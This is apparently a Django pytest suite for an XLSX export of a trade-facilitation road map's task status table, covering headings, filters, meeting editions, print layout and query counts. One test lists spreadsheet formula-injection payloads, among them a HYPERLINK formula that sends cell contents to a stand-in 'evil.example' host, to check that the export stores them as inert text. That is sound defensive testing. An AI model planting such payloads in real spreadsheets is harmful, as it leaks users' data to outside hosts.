import datetime
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tasks.management.commands.load_seed import SEED_FIXTURE
from tasks.models import Meeting, ProgressUpdate, Status, Task
from tasks.spreadsheets.layout import DATA_COLUMNS, HISTORY_COLUMNS, xml_safe
from tests.factories import ArticleFactory, MeetingFactory, ProgressUpdateFactory, TaskFactory, WorkingGroupFactory

pytestmark = pytest.mark.django_db

URL = reverse("tasks:export_xlsx")

# The seed's "Relevant articles" column, top to bottom, as the meeting document prints it.
SEED_ARTICLES = [
    "Article 6",
    "Article 6",
    "Articles 7 and 14",
    "Article 8",
    "Article 8",
    "Article 9",
    "Article 10",
    "Article 10",
    None,  # the legal liability framework: no article
    "Article 13",
    "Article 13",
    *["Article 14"] * 6,
    "Article 15",
]


def seed_table():
    """Return the seed's (task, progress status) pairs in road map order, read from the fixture file itself."""
    records = json.loads(SEED_FIXTURE.read_text())
    narratives = {
        r["fields"]["task"]: r["fields"]["narrative"] for r in records if r["model"] == "tasks.progressupdate"
    }
    tasks = sorted(
        (r["fields"]["position"], r["pk"], r["fields"]["title"]) for r in records if r["model"] == "tasks.task"
    )
    return [(title, narratives[pk]) for _position, pk, title in tasks]


def download(client, query=""):
    response = client.get(f"{URL}?{query}" if query else URL)
    assert response.status_code == 200, response.content
    body = b"".join(response.streaming_content)
    assert body[:4] == b"PK\x03\x04"  # sent from its first byte (zipfile would forgive a missing one)
    return response, load_workbook(io.BytesIO(body))


def table_rows(workbook):
    """Return the status table's header and rows, below the heading block."""
    rows = list(workbook["Status table"].iter_rows(values_only=True))
    start = next(i for i, row in enumerate(rows) if row[0] == "Tasks")
    return rows[start], rows[start + 1 :]


def heading(workbook):
    rows = list(workbook["Status table"].iter_rows(values_only=True))
    return [row[0] for row in rows[: next(i for i, row in enumerate(rows) if row[0] == "Tasks")] if row[0]]


def test_export_reproduces_the_seed_table(client, seed):
    response, workbook = download(client, "meeting=5")

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="roadmap-status-iisg-2.xlsx"'
    assert workbook.sheetnames == ["Status table", "Data"]
    header, rows = table_rows(workbook)
    assert header == ("Tasks", "Progress status", "Relevant articles", "Lead group", "Status")
    assert len(rows) == 18
    assert [row[2] for row in rows] == SEED_ARTICLES
    assert [row[:2] for row in rows] == seed_table()
    assert rows[0][:2] == (
        "Template for designing a good national policy framework",
        "The Technical Working Group is in the process of collecting examples and designing an initial template.",
    )
    # The row the PDF split over two pages is one task.
    assert rows[4][0] == (
        "Model memorandum of understanding and service-level agreement for mutual recognition of exchange "
        "of trade-related data in electronic form"
    )
    assert rows[8][1:] == (
        "The Task is to be cancelled in accordance with a decision to delete provision on legal liability framework.",
        None,
        None,
        "Cancelled",
    )
    assert "UNNExT Electronic Single Window Legal Issues: A Capacity-Building Guide." in rows[9][1]
    assert rows[17][0].startswith("Capacity-building support document on:\n(1) Options and mechanisms")
    assert [row[3] for row in rows[:3]] == ["TWG", "LWG", "TWG"]


def test_heading_names_the_meeting_its_place_dates_and_edition(client, seed):
    _response, workbook = download(client, "meeting=5")

    assert heading(workbook) == [
        "Economic and Social Commission for Asia and the Pacific",
        "Second Meeting of the Interim Intergovernmental Steering Group on Cross-border Paperless Trade Facilitation",
        "Bangkok, 23-25 March 2016",
        "Update on progress status for tasks",
        "Status as at 25 March 2016",
        "Filters: As at meeting: IISG-2.",
    ]


def test_latest_table_is_dated_today_and_named_by_date(client, seed):
    response, workbook = download(client)

    today = timezone.localdate()
    assert response["Content-Disposition"] == f'attachment; filename="roadmap-status-{today.isoformat()}.xlsx"'
    lines = heading(workbook)
    assert lines[1] == "Update on progress status for tasks"
    assert lines[2] == f"Status as at {today.day} {today:%B %Y}"
    assert lines[3] == "Filters: none (every task)."


def test_export_keeps_filters(client, seed):
    _response, workbook = download(client, "group=lwg&article=10&article=14")

    _header, rows = table_rows(workbook)
    assert [row[0][:40] for row in rows] == [
        "Guide on how to engage in a cross-border",
        "List of relevant provisions of internati",
        "Model memorandums of understanding/ agre",
    ]
    assert heading(workbook)[1] == "Update on progress status for tasks of the Legal Working Group"
    assert heading(workbook)[3] == "Filters: Working group: LWG; Articles: 10, 14."


def test_export_filters_by_status_and_words(client, seed):
    _response, workbook = download(client, "status=cancelled&status=pending")
    assert [row[4] for row in table_rows(workbook)[1]] == ["Cancelled", "Pending"]

    _response, workbook = download(client, "q=UNNExT")
    assert [row[0] for row in table_rows(workbook)[1]] == ["Legal readiness checklist"]


def test_invalid_filter_is_left_out_and_said(client, seed):
    _response, workbook = download(client, "group=nobody&status=cancelled")

    assert len(table_rows(workbook)[1]) == 1
    assert heading(workbook)[3] == "Filters: Status: Cancelled. Left out as invalid: Working group."


def test_edition_shows_the_table_as_it_stood_at_the_meeting(client, seed):
    task = Task.objects.get(position=1)
    later = MeetingFactory(title="Later meeting", short_title="LATER", start_date=datetime.date(2017, 3, 23))
    ProgressUpdateFactory(
        task=task, meeting=later, reported_on=datetime.date(2017, 3, 23), status=Status.COMPLETED, narrative="Done."
    )

    _response, then = download(client, "meeting=5")
    _response, now = download(client)
    _response, before = download(client, "meeting=1")

    assert table_rows(then)[1][0][1:] == (
        "The Technical Working Group is in the process of collecting examples and designing an initial template.",
        "Article 6",
        "TWG",
        "In progress",
    )
    assert table_rows(now)[1][0][1:] == ("Done.", "Article 6", "TWG", "Completed")
    assert table_rows(before)[1] == []  # nothing was reported by April 2015


def test_articles_read_as_the_document_cites_them(client, db):
    seven, nine, fourteen = ArticleFactory(number=7), ArticleFactory(number=9), ArticleFactory(number=14)
    TaskFactory(position=1, articles=[fourteen, seven, nine])
    TaskFactory(position=2, articles=[fourteen, seven])
    TaskFactory(position=3, articles=[seven])
    TaskFactory(position=4)

    _response, workbook = download(client)

    assert [row[2] for row in table_rows(workbook)[1]] == [
        "Articles 7, 9 and 14",
        "Articles 7 and 14",
        "Article 7",
        None,
    ]
    assert [row[4] for row in workbook["Data"].iter_rows(min_row=2, values_only=True)] == [
        "7, 9, 14",
        "7, 14",
        "7",
        None,
    ]


def test_task_without_update_reads_as_such(client, db):
    TaskFactory(position=1, title="Fresh task")

    _response, workbook = download(client)

    assert table_rows(workbook)[1][0][1] == "No progress reported yet."
    assert table_rows(workbook)[1][0][4] == "No update yet"
    data = next(workbook["Data"].iter_rows(min_row=2, values_only=True))
    assert data[5:] == (None, None, None, None)


def test_lead_group_and_status_columns_can_be_left_out(client, seed):
    _response, workbook = download(client, "hide=lead&hide=status")

    header, rows = table_rows(workbook)
    assert header == ("Tasks", "Progress status", "Relevant articles")
    assert [row[2] for row in rows] == SEED_ARTICLES
    assert workbook["Status table"].max_column == 3

    _response, workbook = download(client, "hide=status")
    assert table_rows(workbook)[0] == ("Tasks", "Progress status", "Relevant articles", "Lead group")


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("hide=title", "hide: Select a valid choice. title is not one of the available choices."),
        ("history=yes", "history: Select a valid choice. yes is not one of the available choices."),
    ],
)
def test_invalid_export_option_is_refused_with_a_reason(client, seed, query, message):
    response = client.get(f"{URL}?{query}")

    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert message in response.content.decode()


def test_status_table_is_set_up_for_printing(client, seed):
    _response, workbook = download(client, "meeting=5")
    sheet = workbook["Status table"]

    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9  # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.print_title_rows == "$8:$8"  # the header row, repeated on every page
    assert sheet["A8"].value == "Tasks"
    assert sheet.freeze_panes == "A9"
    assert "&P" in sheet.oddFooter.center.text and "&N" in sheet.oddFooter.center.text
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDE"]
    assert all(widths) and sum(widths) <= 160  # what a landscape A4 page holds at about 100 %
    cell = sheet["A11"]  # the technical guide: five lines
    assert cell.alignment.wrap_text and cell.alignment.vertical == "top"
    assert cell.border.left.style == cell.border.bottom.style == "thin"
    assert sheet["E26"].border.right.style == "thin"  # the last row, an empty-free cell
    assert sheet["C17"].border.top.style == "thin"  # the empty "Relevant articles" cell keeps its borders
    assert sheet.row_dimensions[11].height >= 5 * 15  # tall enough for its lines
    assert sheet["A8"].font.bold


def test_data_sheet_has_typed_cells_and_an_autofilter(client, seed):
    _response, workbook = download(client, "meeting=5")
    sheet = workbook["Data"]

    rows = list(sheet.iter_rows())
    assert tuple(cell.value for cell in rows[0]) == DATA_COLUMNS
    assert sheet.auto_filter.ref == "A1:I19"
    assert sheet.freeze_panes == "A2"
    task = Task.objects.get(position=3)
    third = dict(zip(DATA_COLUMNS, rows[3], strict=True))
    assert third["Task ID"].value == task.pk and third["Task ID"].data_type == "n"
    assert third["Position"].value == 3 and third["Position"].data_type == "n"
    assert third["Task"].value == task.title
    assert third["Lead group"].value == "TWG"
    assert third["Relevant articles"].value == "7, 14" and third["Relevant articles"].data_type == "s"
    assert third["Status"].value == "In progress"
    assert third["Progress status"].value.startswith("A background study has been completed.")
    assert third["Last update"].is_date and third["Last update"].value == datetime.datetime(2016, 3, 23)
    assert third["Meeting"].value == "IISG-2"
    assert [row[5].value for row in rows[1:]].count("Draft prepared") == 3
    assert rows[9][3].value is None  # the legal liability framework: lead group not stated


def test_history_sheet_lists_every_update_known_at_the_edition(client, seed):
    task = Task.objects.get(position=2)
    ProgressUpdateFactory(
        task=task, reported_on=datetime.date(2015, 11, 6), status=Status.NOT_STARTED, narrative="To be initiated."
    )
    ProgressUpdateFactory(
        task=task, reported_on=datetime.date(2017, 1, 9), status=Status.IN_PROGRESS, narrative="Begun."
    )

    _response, workbook = download(client, "meeting=5&history=1&group=lwg")

    sheet = workbook["History"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HISTORY_COLUMNS
    assert len(rows) == 1 + 5 + 1  # the five LWG tasks' updates, the one before the meeting; not the later one
    assert rows[1][:6] == (task.pk, 2, datetime.datetime(2015, 11, 6), None, "Not started", "To be initiated.")
    assert rows[2][:5] == (task.pk, 2, datetime.datetime(2016, 3, 23), "IISG-2", "Not started")
    assert sheet.auto_filter.ref == "A1:G7"
    recorded = rows[1][6]
    assert isinstance(recorded, datetime.datetime) and recorded.tzinfo is None

    _response, workbook = download(client, "history=1")
    assert workbook["History"].max_row == 1 + 18 + 2


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
        "#N/A",
    ],
)
def test_formula_payloads_are_stored_as_text(client, db, payload):
    group = WorkingGroupFactory(short_name=payload[:20])
    meeting = MeetingFactory(short_title=payload[:40])
    task = TaskFactory(position=1, title=payload, lead_group=group)
    update = ProgressUpdateFactory(task=task, meeting=meeting, narrative=payload)
    # Stored as written (a save would trim the leading tab): the export guards what older data holds.
    Task.objects.filter(pk=task.pk).update(title=payload)
    ProgressUpdate.objects.filter(pk=update.pk).update(narrative=payload)

    _response, workbook = download(client, "history=1")

    table = workbook["Status table"]
    cells = [table["A7"], table["B7"], table["D7"]]  # no edition: a heading of four lines
    data = workbook["Data"]
    cells += [data["C2"], data["D2"], data["G2"], data["I2"]]
    cells += [workbook["History"]["D2"], workbook["History"]["F2"]]
    for cell in cells:
        assert cell.data_type == "s", cell.coordinate
        assert cell.quotePrefix, cell.coordinate
    assert table["A7"].value == payload
    assert data["C2"].value == payload and data["G2"].value == payload


def test_clean_text_keeps_only_what_xml_holds():
    assert xml_safe("a\x00b\x08c\x0b\x0cd\x1fe\ud800f\ufffeg\uffff") == "abcdefg"
    assert xml_safe("tab\tnew line\ncarriage return\r, é, 中文, emoji 🚢") == (
        "tab\tnew line\ncarriage return\r, é, 中文, emoji 🚢"
    )
    assert xml_safe("") == "" and xml_safe(None) is None


def test_control_characters_excel_rejects_are_removed(client, db):
    task = TaskFactory(position=1)
    update = ProgressUpdateFactory(task=task)
    # Stored as written (a save would remove them): the export guards what older data holds.
    Task.objects.filter(pk=task.pk).update(title="Bell\x07 and escape\x1b task\ufffe")  # PostgreSQL refuses NUL
    ProgressUpdate.objects.filter(pk=update.pk).update(narrative="Line one\nline\x0btwo\tend")

    _response, workbook = download(client, "history=1")

    assert workbook["Data"]["C2"].value == "Bell and escape task"
    assert workbook["Data"]["G2"].value == "Line one\nlinetwo\tend"
    assert workbook["History"]["F2"].value == "Line one\nlinetwo\tend"


def test_export_costs_a_fixed_number_of_queries(client, db, django_assert_max_num_queries):
    articles = [ArticleFactory(number=n) for n in (6, 7, 8)]
    group = WorkingGroupFactory(slug="twg")
    meeting = MeetingFactory(start_date=datetime.date(2025, 1, 1))

    def grow(count):
        for _ in range(count):
            task = TaskFactory(lead_group=group, articles=articles[: 1 + Task.objects.count() % 3])
            ProgressUpdateFactory(task=task, meeting=meeting)
            ProgressUpdateFactory(task=task, reported_on=datetime.date(2021, 1, 1))

    grow(3)
    with django_assert_max_num_queries(7):  # with the change stamp (freshness)
        _response, small = download(client, f"history=1&group=twg&article=6&article=7&meeting={meeting.pk}")
    grow(40)
    with django_assert_max_num_queries(7):  # with the change stamp (freshness)
        _response, large = download(client, f"history=1&group=twg&article=6&article=7&meeting={meeting.pk}")

    assert len(table_rows(small)[1]) == 3
    assert len(table_rows(large)[1]) == 43
    assert large["History"].max_row == 1 + 43 * 2


def test_only_existing_meetings_with_dates_make_editions(client, seed):
    undated = Meeting.objects.get(short_title="LTWG-3")

    _response, workbook = download(client, f"meeting={undated.pk}")

    assert heading(workbook)[-1] == "Filters: none (every task). Left out as invalid: As at meeting."
    assert len(table_rows(workbook)[1]) == 18


def test_admin_action_exports_the_selected_tasks(secretariat_client, seed):
    chosen = list(Task.objects.filter(position__in=[3, 9]).values_list("pk", flat=True))

    response = secretariat_client.post(
        reverse("admin:tasks_task_changelist"), {"action": "export_selected_xlsx", "_selected_action": chosen}
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert [row[2] for row in table_rows(workbook)[1]] == ["Articles 7 and 14", None]
    assert [row[1] for row in workbook["Data"].iter_rows(min_row=2, values_only=True)] == [3, 9]
    assert heading(workbook)[-1] == "2 tasks selected by hand."


def test_file_of_a_meeting_whose_short_title_has_no_slug_is_named_by_its_id(client, db):
    meeting = MeetingFactory(short_title="中文会议")

    response = client.get(f"{URL}?meeting={meeting.pk}")

    assert response["Content-Disposition"] == f'attachment; filename="roadmap-status-meeting-{meeting.pk}.xlsx"'
